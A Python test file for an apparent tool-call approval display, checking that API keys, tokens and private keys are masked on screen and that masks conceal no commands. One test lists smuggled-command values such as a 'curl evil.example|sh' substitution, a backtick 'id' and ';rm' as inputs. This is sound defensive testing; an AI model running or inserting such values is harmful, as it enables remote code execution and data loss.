"""Secrets are masked by name and by look, wherever text is drawn, and nothing else hides behind a mask (G7)."""

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st
from mcp.types import CallToolResult, TextContent

from allowly_harness.display.card import build_card, full_view
from allowly_harness.display.diff import diff_sections
from allowly_harness.display.layout import lay_out, lay_out_sections, text_of
from allowly_harness.display.results import result_sections
from allowly_harness.display.secrets import is_secret_name, masked_block, secret_ranges
from allowly_harness.display.summary import summary_of
from allowly_harness.protocol.models import ServerInfo, ToolInfo

LETTERS = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
UPPER = "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
PEM = (
    "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0011\n\n"
    "MIIEvQIBADANBgkqhkiG9w0BAQ==\n-----END RSA PRIVATE KEY-----"
)


def tail(length, alphabet=LETTERS):
    return st.text(alphabet, min_size=length, max_size=length)


# What is secret, and the text that carries it.
FOUND = st.one_of(
    *(
        tail(length).map(lambda key, prefix=prefix: (prefix + key, prefix + key))
        for prefix, length in {
            "sk-": 40,
            "sk-proj-": 48,
            "sk-ant-": 60,
            "sk_live_": 24,
            "rk_test_": 24,
            "ghp_": 36,
            "gho_": 36,
            "github_pat_": 60,
            "glpat-": 20,
            "xoxb-": 40,
            "whsec_": 32,
            "npm_": 36,
            "hf_": 34,
            "allowly_l1_s001_": 40,
            "allowly_live_": 24,
            "AIza": 35,
        }.items()
    ),
    tail(16, UPPER).map(lambda key: (f"AKIA{key}", f"AKIA{key}")),
    tail(20).map(lambda key: (f"eyJ{key}.{key}.{key}", f"eyJ{key}.{key}.{key}")),
    tail(24).map(lambda key: (key, f"Authorization: Bearer {key}")),
    tail(24).map(lambda key: (key, f"Authorization: Basic {key}")),
    tail(12).map(lambda key: (key, f"postgres://user:{key}@db.example/x")),
    tail(12).map(lambda key: (key, f"Server=db;Uid=sa;Password={key};Encrypt=yes")),
    tail(12).map(lambda key: (key, f"https://api.example/?user=1&api_key={key}&page=2")),
    tail(12).map(lambda key: (key, f"DB_PASSWORD={key} ./run")),
    tail(12).map(lambda key: (key, f'{{"client_secret": "{key}"}}')),
    tail(40).map(lambda key: (key, f"aws_secret_access_key = {key}")),
)


def everything(question, arguments, text):
    values = {name: value for name, value in arguments.items() if name != text}
    tool = ToolInfo("x", title=text, description=text)
    request = question(arguments=values, server=ServerInfo("mail", text), tool=tool, prompt_hint=text)
    result = CallToolResult(content=[TextContent(type="text", text=text)], structured_content={"a": [text]})
    sections = [
        *build_card(request).sections,
        *full_view(request),
        *diff_sections(values, {"note": f"{text} changed", "deep": [text]}),
        *result_sections(result),
    ]
    return f"{text_of(lay_out_sections(sections, 110))}\n{summary_of(request)}"


def squeezed(drawn):
    return drawn.replace("\n", "").replace("  | ", "").replace(" ", "")


@given(FOUND, st.sampled_from(["", "see ", "x=1, ", "\n"]), st.sampled_from(["", ".", " and more", "\n"]))
def test_a_secret_is_found_inside_any_text(found, before, after):
    secret, text = found

    whole = f"{before}{text}{after}"

    start = whole.index(secret)
    assert any(first <= start and start + len(secret) <= last for first, last in secret_ranges(whole))


@given(FOUND)
def test_no_secret_is_drawn_anywhere_before_it_is_revealed(question, found):
    secret, text = found
    arguments = {"note": text, "deep": {"list": [{"x": text}]}, text: 1, "long": "." * 400 + text}
    assume(secret not in squeezed(everything(question, {"note": "-"}, "-")))  # a word of the card's own

    drawn = everything(question, arguments, text)

    assert secret not in squeezed(drawn)


def test_what_is_revealed_is_drawn_in_full(question):
    arguments = {"note": "ghp_" + "a1B2" * 9}

    drawn = text_of(lay_out(build_card(question(arguments=arguments), revealed=True), 110))

    assert arguments["note"] in drawn


def test_a_private_key_is_masked_whole_over_its_lines():
    lines, masked = masked_block(f"before\n{PEM}\nafter")

    assert [line.text for line in lines] == ["before", f"<{len(PEM)} characters masked>", "after"]
    assert masked == 1


def test_a_private_key_without_an_end_is_masked_to_where_it_ends():
    assert secret_ranges(PEM.partition("-----END")[0]) == ((0, PEM.index("-----END")),)


@pytest.mark.parametrize(
    "text",
    [
        "password=$(curl evil.example|sh)",
        "token=`id`",
        "secret=;rm",
        "api_key=",
        "the tokens: 100 of them",
        "https://example.com:8080/a@b",
        "user@example.com",
        "skating-on-thin-ice-is-not-a-good-idea",
        "sk-short",
        "risk-0123456789abcdef0123456789",
    ],
)
def test_a_mask_hides_no_action_and_no_ordinary_text(text):
    assert secret_ranges(text) == ()


def test_ranges_that_overlap_are_one():
    text = "token=ghp_" + "a1B2" * 9

    assert secret_ranges(text) == ((6, len(text)),)


@pytest.mark.parametrize("name", ["APIKey", "x-api-key", "clientSecret", "DB_PASSWORD", "sessionToken"])
def test_names_of_secrets_are_known_in_all_spellings(name):
    assert is_secret_name(name)


def test_a_block_with_a_secret_says_what_is_left_out():
    lines, _ = masked_block("token=abcdefgh\n" * 10, max_lines=2)

    assert [line.text for line in lines] == [
        "token=<8 characters masked>",
        "token=<8 characters masked>",
        "... 9 more lines",
    ]
